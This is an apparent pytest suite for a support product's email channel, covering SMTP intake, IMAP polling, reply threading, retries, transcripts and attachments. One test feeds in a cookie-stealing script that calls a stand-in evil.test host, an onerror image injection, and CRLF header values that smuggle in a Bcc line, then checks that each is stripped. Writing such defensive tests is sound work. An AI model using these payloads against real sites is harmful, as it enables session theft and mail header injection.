"""The email channel end to end with other people's implementations of the protocols: mail
sent by the standard library's smtplib into our SMTP endpoint, a mailbox served by pymap and
polled over IMAP, replies received by an aiosmtpd server playing the provider."""

from __future__ import annotations

import asyncio
import io
import smtplib
import uuid
from collections.abc import AsyncIterator
from email import policy
from functools import partial

import pytest
from sqlalchemy import func, select, update

from kefu.actions.email import request_transcript
from kefu.actions.messages import send_message
from kefu.attachments.ingest import Limits, check_and_store
from kefu.config import Settings
from kefu.db.tables import Attachment, ContactIdentity, Conversation, Job, Message
from kefu.db.types import utcnow
from kefu.domain.actors import AgentActor
from kefu.domain.enums import MessageType
from kefu.jobs.attachments import sweep_orphan_files
from kefu.jobs.mail import MailService
from kefu.jobs.runner import Worker
from kefu.runtime import Kefu
from tests.attachments.samples import jpeg, pdf, png_flood
from tests.jobs.mailhelp import (
    INBOX_ADDRESS,
    Sink,
    customer_mail,
    email_inbox,
    imap_append,
    imap_server,
    imap_unseen,
    smtp_send,
    smtp_sink,
)
from tests.support import World, make_world

pytestmark = pytest.mark.storage


@pytest.fixture
def settings(settings: Settings) -> Settings:
    return settings.model_copy(
        update={"fetch_allow_networks": ["127.0.0.0/8"], "mail_max_bytes": 64 * 1024}
    )


@pytest.fixture
async def sink() -> AsyncIterator[Sink]:
    async with smtp_sink() as s:
        yield s


@pytest.fixture
async def endpoint(kefu: Kefu) -> AsyncIterator[int]:
    server = await MailService(kefu).start_endpoint("127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()
        await server.wait_closed()


async def run_jobs(kefu: Kefu) -> None:
    worker = Worker(kefu)
    while await worker.run_due():
        pass


async def customer_messages(kefu: Kefu, world: World) -> list[tuple[uuid.UUID, str]]:
    async with kefu.db.read() as s:
        rows = await s.execute(
            select(Message.conversation_id, Message.content)
            .where(Message.workspace_id == world.workspace_id, Message.sender_kind == "customer")
            .order_by(Message.created_at, Message.id)
        )
        return [(c, t) for c, t in rows.all()]


async def reply(kefu: Kefu, world: World, conv: uuid.UUID, text: str) -> uuid.UUID:
    agent = world.agents[0]
    actor = AgentActor(world.workspace_id, agent.id, agent.role, agent.name)
    sent = await kefu.write(
        world.workspace_id,
        partial(send_message, actor=actor, conversation_id=conv, content=text),
    )
    return sent.message.id


async def delivery_of(kefu: Kefu, world: World, message_id: uuid.UUID) -> tuple[str, str | None]:
    async with kefu.db.read() as s:
        m = await s.scalar(
            select(Message).where(
                Message.workspace_id == world.workspace_id, Message.id == message_id
            )
        )
        assert m is not None
        return m.delivery, m.delivery_error


async def test_mail_in_reply_out_in_one_thread(kefu: Kefu, sink: Sink, endpoint: int) -> None:
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=sink.port)
    first = customer_mail()
    await asyncio.to_thread(smtp_send, endpoint, first)
    await asyncio.to_thread(smtp_send, endpoint, first)  # a sending server's retry
    await run_jobs(kefu)
    [(conv, text)] = await customer_messages(kefu, world)
    assert text == "Hello, my order 42 has not arrived."
    async with kefu.db.read() as s:
        owner = await s.scalar(
            select(ContactIdentity.contact_id).where(
                ContactIdentity.workspace_id == world.workspace_id,
                ContactIdentity.kind == "email",
                ContactIdentity.value == "ana@cust.test",
            )
        )
        c = await s.get(Conversation, (world.workspace_id, conv))
        assert c is not None and c.contact_id == owner

    answer = await reply(kefu, world, conv, "Sorry! It ships today.\nLi")
    await run_jobs(kefu)
    assert await delivery_of(kefu, world, answer) == ("sent", None)
    [(rcpts, out)] = sink.accepted
    assert rcpts == ["ana@cust.test"]
    assert out["From"] == f"Shop Support <{INBOX_ADDRESS}>"
    assert out["To"] == "ana@cust.test"
    assert out["Subject"] == "Re: Order 42"
    assert out["In-Reply-To"] == "<c1@cust.test>"
    assert out["References"] == "<c1@cust.test>"
    assert out["Message-ID"] == f"<{answer}@shop.test>"
    assert out.get_content().replace("\r\n", "\n").strip() == "Sorry! It ships today.\nLi"

    # The customer answers our reply, quoting it: same conversation, quote trimmed.
    again = customer_mail(
        "Great, thanks!\n\nOn Tue, Shop Support wrote:\n> Sorry! It ships today.\n",
        message_id="<c2@cust.test>",
        subject="Re: Order 42",
        In_Reply_To=out["Message-ID"],
        References=f"<c1@cust.test> {out['Message-ID']}",
    )
    await asyncio.to_thread(smtp_send, endpoint, again)
    # A new subject without references opens a new conversation.
    await asyncio.to_thread(
        smtp_send, endpoint, customer_mail("Another thing", message_id="<c3@cust.test>")
    )
    # Someone else quoting our Message-ID does not get into Ana's conversation.
    await asyncio.to_thread(
        smtp_send,
        endpoint,
        customer_mail(
            "let me in",
            message_id="<m1@evil.test>",
            sender="mallory@evil.test",
            In_Reply_To=out["Message-ID"],
        ),
    )
    await run_jobs(kefu)
    got = await customer_messages(kefu, world)
    assert got[1] == (conv, "Great, thanks!")
    assert got[2][0] != conv and got[2][1] == "Another thing"
    assert got[3][0] not in (conv, got[2][0])
    second = await reply(kefu, world, conv, "You're welcome")
    await run_jobs(kefu)
    assert await delivery_of(kefu, world, second) == ("sent", None)
    out2 = sink.accepted[-1][1]
    assert out2["In-Reply-To"] == "<c2@cust.test>"
    assert out2["References"].split() == [
        "<c1@cust.test>",
        f"<{answer}@shop.test>",
        "<c2@cust.test>",
    ]


async def test_endpoint_refuses_strangers_big_mail_and_ignores_automatic_mail(
    kefu: Kefu, sink: Sink, endpoint: int
) -> None:
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=sink.port)
    with pytest.raises(smtplib.SMTPRecipientsRefused) as refused:
        await asyncio.to_thread(smtp_send, endpoint, customer_mail(), ["nobody@shop.test"])
    assert refused.value.recipients["nobody@shop.test"][0] == 550
    big = customer_mail("x" * 100_000, message_id="<big@cust.test>")
    with pytest.raises((smtplib.SMTPSenderRefused, smtplib.SMTPDataError)) as too_big:
        await asyncio.to_thread(smtp_send, endpoint, big)
    assert too_big.value.smtp_code == 552
    vacation = customer_mail("I am away", message_id="<v@cust.test>", Auto_Submitted="auto-replied")
    assert await asyncio.to_thread(smtp_send, endpoint, vacation) == {}
    await run_jobs(kefu)
    assert await customer_messages(kefu, world) == []


async def test_hostile_headers_and_html_are_neutralised(
    kefu: Kefu, sink: Sink, endpoint: int
) -> None:
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=sink.port, from_name="Support\r\nBcc: x@evil.test")
    raw = (
        b"From: =?utf-8?q?Eve=0D=0ABcc:_victim@evil.test?= <eve@cust.test>\r\n"
        b"To: help@shop.test\r\n"
        b"Subject: =?utf-8?q?Hi=0D=0ABcc:_victim@evil.test?=\r\n"
        b"Message-ID: <eve-1@cust.test>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/html; charset=utf-8\r\n\r\n"
        b"<p>Hello<script>fetch('https://evil.test/'+document.cookie)</script></p>"
        b"<img src=x onerror=alert(1)><p>bye</p>\r\n"
    )
    await asyncio.to_thread(smtp_send, endpoint, raw)
    await run_jobs(kefu)
    [(conv, text)] = await customer_messages(kefu, world)
    assert text == "Hello\nbye"
    async with kefu.db.read() as s:
        m = await s.scalar(select(Message).where(Message.conversation_id == conv))
        assert m is not None and m.sender_name == "Eve Bcc: victim@evil.test"
        html = (m.payload or {})["email"]["html"]
    assert "script" not in html and "onerror" not in html and "<img" not in html
    await reply(kefu, world, conv, "Hello Eve")
    await run_jobs(kefu)
    [(rcpts, out)] = sink.accepted
    assert rcpts == ["eve@cust.test"]
    assert out.get_all("Bcc") is None
    assert out["Subject"] == "Re: Hi Bcc: victim@evil.test"
    assert out["From"] == '"Support Bcc: x@evil.test" <help@shop.test>'


async def test_provider_answers_4xx_then_accepts_one_delivery_and_5xx_fails(
    kefu: Kefu, sink: Sink, endpoint: int
) -> None:
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=sink.port)
    await asyncio.to_thread(smtp_send, endpoint, customer_mail())
    await run_jobs(kefu)
    [(conv, _)] = await customer_messages(kefu, world)

    sink.script = ["451 4.7.1 Greylisted, try again later"]
    first = await reply(kefu, world, conv, "One")
    await run_jobs(kefu)
    assert await delivery_of(kefu, world, first) == ("stored", None)
    assert sink.accepted == []
    async with kefu.db.write_session() as s, s.begin():  # the back-off is over
        await s.execute(update(Job).where(Job.state == "pending").values(run_at=utcnow()))
    await run_jobs(kefu)
    assert await delivery_of(kefu, world, first) == ("sent", None)
    assert len(sink.accepted) == 1

    sink.script = ["550 5.1.1 User unknown"]
    second = await reply(kefu, world, conv, "Two")
    await run_jobs(kefu)
    state, error = await delivery_of(kefu, world, second)
    assert state == "failed" and error == "smtp 550: 5.1.1 User unknown"
    assert len(sink.accepted) == 1


async def test_imap_polling_reads_each_mail_once(kefu: Kefu, sink: Sink) -> None:
    world = await make_world(kefu)
    with imap_server("help", "imap-secret") as port:
        await email_inbox(
            kefu,
            world,
            smtp_port=sink.port,
            imap_host="127.0.0.1",
            imap_port=port,
            imap_security="none",
            imap_username="help",
            imap_password="imap-secret",
        )
        service = MailService(kefu)
        mail = customer_mail("Via IMAP", message_id="<i1@cust.test>").as_bytes()
        await asyncio.to_thread(imap_append, port, "help", "imap-secret", mail)
        await asyncio.to_thread(imap_append, port, "help", "imap-secret", mail)  # a copy
        big = customer_mail("y" * 100_000, message_id="<i2@cust.test>").as_bytes()
        await asyncio.to_thread(imap_append, port, "help", "imap-secret", big)
        assert await service.poll_once() == 3
        assert await asyncio.to_thread(imap_unseen, port, "help", "imap-secret") == []
        assert await service.poll_once() == 0
    await run_jobs(kefu)
    assert [t for _, t in await customer_messages(kefu, world)] == ["Via IMAP"]
    async with kefu.db.read() as s:
        convs = await s.scalar(
            select(func.count())
            .select_from(Conversation)
            .where(Conversation.workspace_id == world.workspace_id)
        )
    assert convs == 1


async def test_transcript_is_mailed_without_notes(kefu: Kefu, sink: Sink, endpoint: int) -> None:
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=sink.port)
    await asyncio.to_thread(smtp_send, endpoint, customer_mail("Where is it?"))
    await run_jobs(kefu)
    [(conv, _)] = await customer_messages(kefu, world)
    agent = world.agents[0]
    actor = AgentActor(world.workspace_id, agent.id, agent.role, agent.name)
    await kefu.write(
        world.workspace_id,
        partial(
            send_message,
            actor=actor,
            conversation_id=conv,
            content="secret note",
            type=MessageType.note,
        ),
    )
    await reply(kefu, world, conv, "On its way")
    await run_jobs(kefu)
    await kefu.write(
        world.workspace_id,
        partial(request_transcript, actor=actor, conversation_id=conv, to="Boss@Cust.test"),
    )
    await run_jobs(kefu)
    rcpts, out = sink.accepted[-1]
    assert rcpts == ["boss@cust.test"]
    assert out["Subject"] == "Your conversation with Mail"
    assert out["Auto-Submitted"] == "auto-generated"
    body = out.get_content()
    assert "Where is it?" in body and "On its way" in body and "You:" in body
    assert "secret note" not in body


async def test_smtp_servers_on_private_networks_are_refused(
    kefu: Kefu, sink: Sink, endpoint: int
) -> None:
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=sink.port, smtp_host="10.1.2.3")
    await asyncio.to_thread(smtp_send, endpoint, customer_mail())
    await run_jobs(kefu)
    [(conv, _)] = await customer_messages(kefu, world)
    answer = await reply(kefu, world, conv, "Hello")
    await run_jobs(kefu)
    assert await delivery_of(kefu, world, answer) == (
        "failed",
        "blocked: 10.1.2.3 is not a public address",
    )
    assert sink.accepted == []


async def test_attachments_in_and_out(kefu: Kefu, sink: Sink, endpoint: int) -> None:
    """A customer's attachments pass the attachment checks into storage, each a message of its
    own after the text; a refused one is named with the reason; the same mail again stores
    nothing more. An agent's file goes out attached to the reply."""
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=sink.port)
    mail = customer_mail("Photos and the invoice attached.", message_id="<a1@cust.test>")
    mail.add_attachment(jpeg(), maintype="image", subtype="jpeg", filename="parcel.jpg")
    mail.add_attachment(pdf(), maintype="application", subtype="pdf", filename="invoice.pdf")
    mail.add_attachment(png_flood(), maintype="image", subtype="png", filename="huge.png")
    raw = mail.as_bytes(policy=policy.SMTP)  # CRLF line ends: smtplib sends bytes as they are
    await asyncio.to_thread(smtp_send, endpoint, raw)
    await asyncio.to_thread(smtp_send, endpoint, raw)  # delivered twice
    await run_jobs(kefu)
    async with kefu.db.read() as s:
        rows = list(
            (
                await s.execute(
                    select(Message)
                    .where(Message.workspace_id == world.workspace_id)
                    .order_by(Message.seq)
                )
            ).scalars()
        )
    assert [(m.type, m.content) for m in rows] == [
        ("text", "Photos and the invoice attached."),
        ("image", "parcel.jpg"),
        ("file", "invoice.pdf"),
    ]
    assert rows[1].payload is not None and rows[1].payload["mime"] == "image/jpeg"
    assert rows[2].payload is not None and rows[2].payload["mime"] == "application/pdf"
    assert rows[0].payload is not None
    (omitted,) = rows[0].payload["email"]["attachments_omitted"]
    assert omitted.startswith("huge.png (not stored:")
    keys = [k async for k in kefu.storage.list_keys() if k.startswith(f"{world.workspace_id}/")]
    assert len(keys) == 3  # two files and the image's thumbnail: the repeat left nothing

    conv = rows[0].conversation_id
    agent = world.agents[0]
    actor = AgentActor(world.workspace_id, agent.id, agent.role, agent.name)
    assert rows[2].payload is not None
    sent = await kefu.write(
        world.workspace_id,
        partial(
            send_message,
            actor=actor,
            conversation_id=conv,
            content="The corrected invoice",
            type=MessageType.file,
            payload={"attachment_id": rows[2].payload["attachment_id"]},
        ),
    )
    await run_jobs(kefu)
    assert await delivery_of(kefu, world, sent.message.id) == ("sent", None)
    out = sink.accepted[-1][1]
    body = out.get_body(preferencelist=("plain",))
    assert body is not None and body.get_content().strip() == "The corrected invoice"
    (part,) = list(out.iter_attachments())
    assert part.get_filename() == "invoice.pdf" and part.get_content_type() == "application/pdf"
    assert part.get_payload(decode=True) == pdf()
    assert out["In-Reply-To"] == "<a1@cust.test>"


async def test_attachments_of_a_mail_waiting_for_ingest_survive_the_sweep(
    kefu: Kefu, endpoint: int
) -> None:
    """A mail's files are stored at receipt and get their rows when the ingest job runs: the
    storage sweep keeps them however late that is, and still removes files nothing carries."""
    world = await make_world(kefu)
    await email_inbox(kefu, world, smtp_port=1)
    mail = customer_mail("The receipt, attached.", message_id="<late@cust.test>")
    mail.add_attachment(pdf(), maintype="application", subtype="pdf", filename="receipt.pdf")
    await asyncio.to_thread(smtp_send, endpoint, mail.as_bytes(policy=policy.SMTP))
    ws = world.workspace_id
    (waiting,) = [k async for k in kefu.storage.list_keys() if k.startswith(f"{ws}/")]
    stray = await check_and_store(
        kefu.storage, ws, io.BytesIO(pdf()), "stray.pdf", Limits(1_000_000, 1_000_000)
    )

    # The workers were down for hours: every file is past the sweep's grace period.
    assert await sweep_orphan_files(kefu, grace_seconds=-60) == 1
    assert [k async for k in kefu.storage.list_keys() if k.startswith(f"{ws}/")] == [waiting]
    assert stray.key != waiting

    await run_jobs(kefu)
    async with kefu.db.read() as s:
        row = await s.scalar(
            select(Message).where(Message.workspace_id == ws, Message.type == "file")
        )
    assert row is not None and row.payload is not None
    attachment = await stored_bytes(kefu, ws, row.payload["attachment_id"])
    assert attachment == pdf()
    assert await sweep_orphan_files(kefu, grace_seconds=-60) == 0  # now it has its row


async def stored_bytes(kefu: Kefu, ws: uuid.UUID, attachment_id: str) -> bytes:
    async with kefu.db.read() as s:
        row = await s.get(Attachment, (ws, uuid.UUID(attachment_id)))
    assert row is not None
    return b"".join([chunk async for chunk in kefu.storage.open(row.key)])
